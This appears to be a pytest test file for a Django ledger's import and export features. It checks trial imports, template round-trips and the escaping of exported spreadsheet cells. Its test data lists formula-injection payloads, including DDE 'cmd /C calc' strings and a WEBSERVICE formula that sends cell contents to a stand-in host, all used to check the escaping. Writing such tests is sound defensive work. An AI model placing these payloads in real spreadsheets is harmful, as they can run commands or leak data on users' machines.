"""A trial says what the import then does; what the book gives out comes in again without changing it."""

from __future__ import annotations

import csv
import random
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from changqing.base.tables import stage
from changqing.base.tables.escape import shield
from changqing.journeys.give_out import write_book, write_template
from changqing.journeys.import_ledger import bring_in, undo_import
from changqing.ledger.actions import Wanted
from changqing.ledger.models import CustomerKey, Segment, Source
from changqing.ledger.queries import Import
from changqing.ledger.rules.columns import guess, guess_kind
from changqing.ledger.rules.kinds import KINDS
from changqing.ledger.rules.sheets import headings
from changqing.ledger.trial import try_import, try_switch
from changqing.people.permissions import Operator

FIGURES = ("came", "changed", "went", "same", "money_came", "money_changed", "money_went", "accounts_made")
DAY = (date(2026, 1, 5), date(2026, 1, 20))
HEADER = "订单号,行号,日期,客户编码,客户名称,产品,数量,未税金额,成本\n"
SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u00a0=",
    "\ufeff=",
    "\u200b=",
    "'=",
    "''=",
)
PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example","click")',
    'WEBSERVICE("http://x.example/"&A1)',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)",
    "2+5+cmd|'/C notepad'!A0",
)
STRINGS = [sign + payload for sign in SIGNS for payload in PAYLOADS] + [
    "+86 138 0000 0000",
    "-12.50",
    "-上海",
    ";=1+1",
    '"=1+1"',
    "%0a=1",
    "_x0041_公司",
    "金陵, 特钢",
    'ACME "Steel"',
    "两行\n名字",
    "O'Neil",
]


def text(rows: list[tuple[int, int, int, int, str]]) -> str:
    """An orders file: (order, line, customer, day, amount as written)."""
    return HEADER + "".join(
        f'S{order},{line},2026-01-{day:02d},K{customer},客户 {customer},P{line},1,"{amount}",1\n'
        for order, line, customer, day, amount in rows
    )


amounts = st.one_of(
    st.integers(-500, 5_000).map(str), st.sampled_from(["abc", "", "12.345", "1,200.5", "七十"])
)
lines = st.tuples(st.integers(1, 6), st.integers(1, 3), st.integers(1, 5), st.integers(1, 28), amounts)
files = st.lists(lines, min_size=1, max_size=14, unique_by=lambda line: line[:2])


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    first=files,
    second=files,
    meaning=st.sampled_from(["lines", "orders", "period"]),
    unknown=st.sampled_from(["create", "match", "refuse"]),
)
def test_a_trial_tells_what_the_deed_then_does(
    book: None, by: Operator, tmp_path: Path, first: Any, second: Any, meaning: str, unknown: str
) -> None:
    with transaction.atomic():
        try:
            _tried_and_done(by, tmp_path, first, second, meaning, unknown)
        finally:
            transaction.set_rollback(True)


def _tried_and_done(by: Operator, folder: Path, first: Any, second: Any, meaning: str, unknown: str) -> None:
    one, two = folder / "one.csv", folder / "two.csv"
    one.write_text(
        text([line for line in first if line[4] not in ("abc", "", "七十")] or [(9, 1, 1, 1, "5")]), "utf-8"
    )
    two.write_text(text(second), "utf-8")
    from_day, to_day = DAY if meaning == "period" else (None, None)
    bring_in(by=by, kind="orders", path=one)
    wanted = Wanted(meaning=meaning, unknown=unknown, from_day=from_day, to_day=to_day)
    told = _trial(two, folder, wanted)
    try:
        entry = bring_in(by=by, kind="orders", path=two, wanted=wanted)
    except Exception:
        assert not told["came"] + told["changed"] + told["same"]
        return
    for name in (*FIGURES, "refused", "accounts_touched"):
        assert entry.report[name] == told[name], name
    counted = told["came"] + told["changed"] + told["same"] + told["refused"]
    assert counted <= told["rows"]
    weighed = try_switch(entry=entry).changes
    assert entry.number is not None
    assert undo_import(by=by, number=entry.number).as_json() == {**weighed.as_json(), "circles": []}


def _trial(path: Path, folder: Path, wanted: Wanted, kind: str = "orders") -> dict[str, Any]:
    """What bringing ``path`` in would do; it must write nothing."""
    before = (Import.objects.count(), Segment.objects.count(), CustomerKey.objects.count())
    source = Source.objects.filter(code="erp").first() or Source(pk=0, code="erp", name="erp")
    entry = Import(
        pk=0,
        source=source,
        kind=kind,
        meaning=wanted.meaning,
        from_day=wanted.from_day,
        to_day=wanted.to_day,
        unknown=wanted.unknown,
        mapping=dict(wanted.mapping),
        file_name=path.name,
    )
    trial = folder / "trial"
    trial.mkdir(exist_ok=True)
    with CaptureQueriesContext(connection) as asked:
        told = try_import(entry=entry, staged=stage(path, into=trial), into=trial).as_json()
    writes = [query["sql"] for query in asked if not query["sql"].startswith(("SELECT", "DECLARE"))]
    assert writes == []
    assert before == (Import.objects.count(), Segment.objects.count(), CustomerKey.objects.count())
    return told


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("language", ["zh", "en"])
def test_our_own_headings_are_understood(kind: str, language: str) -> None:
    header = headings(kind, language)
    assert guess_kind(header)[0][0] == kind
    found = guess(kind, header).columns
    assert found == {field.name: (index,) for index, field in enumerate(KINDS[kind].fields)}


@pytest.mark.parametrize(("kind", "language"), list(zip(KINDS, ["zh-hans", "en"] * 4, strict=True)))
def test_a_filled_in_template_comes_in(
    kind: str, language: str, book: None, by: Operator, tmp_path: Path
) -> None:
    to = tmp_path / f"{kind}.xlsx"
    with translation.override(language):
        write_template(by=by, kind=kind, to=to)
    entry = bring_in(by=by, kind=kind, path=to)
    assert (entry.report["came"], entry.report["refused"], entry.report["columns"] != {}) == (1, 0, True)


def hostile(folder: Path) -> dict[str, Path]:
    """A file of each kind with names that are formulas, and every currency and way to write a day."""
    rng = random.Random(4)
    days = ("2026-01-05", "2026/1/5", "2026.01.05", "2026年1月5日", "20260105", "5-Jan-2026", "46027")
    currencies = ("CNY", "USD", "EUR", "HKD", "JPY", "人民币", "美元", "", "£", "US$")
    kinds: dict[str, list[list[str]]] = {
        "accounts": [["客户编码", "客户名称", "简称", "行业", "地区", "币种"]],
        "products": [["产品编码", "产品名称", "产品族", "单位成本"]],
        "orders": [
            [
                "订单号",
                "行号",
                "日期",
                "客户编码",
                "客户名称",
                "产品编码",
                "数量",
                "未税金额",
                "成本金额",
                "币种",
                "单据类型",
                "业务员",
            ]
        ],
        "invoices": [["发票号", "开票日期", "到期日", "客户编码", "价税合计", "税额", "币种", "发票类型"]],
        "receipts": [["收款单号", "收款日期", "客户编码", "收款金额", "币种", "结算方式", "票据到期日"]],
        "costs": [["日期", "客户编码", "费用类别", "金额", "分钟", "单据号"]],
    }
    for n, name in enumerate(STRINGS):
        day, currency = days[n % len(days)], currencies[n % len(currencies)]
        amount = f"{rng.randrange(-(10**9), 10**12) / 10_000:.4f}"
        kinds["accounts"].append([f"K{n}", name, name[:20], name, name, currency])
        kinds["products"].append([f"P{n}", name, name, f"{rng.randrange(10**9) / 10**6:.6f}"])
        kinds["orders"].append(
            [f"S{n // 3}" if n % 5 else "", f"{n % 3 + 1}" if n % 4 else "", day, f"K{n}", name,
             f"P{n % 7}" if n % 6 else "", str(rng.randrange(-3, 9)), amount,
             f"{rng.randrange(10**7) / 100}", currency,
             rng.choice(["", "", "退货", "红字", "返利"]), name]
        )  # fmt: skip
        kinds["invoices"].append(
            [f"F{n}" if n % 4 else "", day, day, f"K{n}", amount, "1.5", currency, rng.choice(["", "红字"])]
        )
        kinds["receipts"].append([f"R{n}" if n % 3 else "", day, f"K{n % 9}", amount, currency, name, ""])
        kinds["costs"].append([day, f"K{n % 9}", name, amount, "30", f"E{n}" if n % 2 else ""])
    paths = {}
    for kind, rows in kinds.items():
        paths[kind] = folder / f"{kind}.csv"
        with paths[kind].open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows([shield(cell) for cell in row] for row in rows)
    return paths


def test_what_the_book_gives_out_comes_in_again_and_changes_nothing(
    book: None, by: Operator, tmp_path: Path
) -> None:
    for kind, path in hostile(tmp_path).items():
        bring_in(by=by, kind=kind, path=path)
    for kind in ("accounts", "products", "orders", "invoices", "receipts", "costs"):
        for language, shape in (("zh-hans", "csv"), ("zh-hans", "xlsx"), ("en", "csv")):
            to = tmp_path / f"out-{kind}-{language}.{shape}"
            with translation.override(language):
                count = write_book(by=by, kind=kind, source="erp", shape=shape, to=to)
            told = _trial(to, tmp_path, Wanted(), kind)
            unlike = {name: told[name] for name in ("came", "changed", "went", "refused") if told[name]}
            assert (kind, language, shape, unlike, told["largest"]) == (kind, language, shape, {}, [])
            assert told["same"] == count >= len(STRINGS) - 40
            if shape == "csv":
                with to.open(encoding="utf-8-sig", newline="") as file:
                    cells = [cell for row in csv.reader(file) for cell in row]
                assert [cell for cell in cells if shield(cell) != cell and not cell.startswith("'")] == []
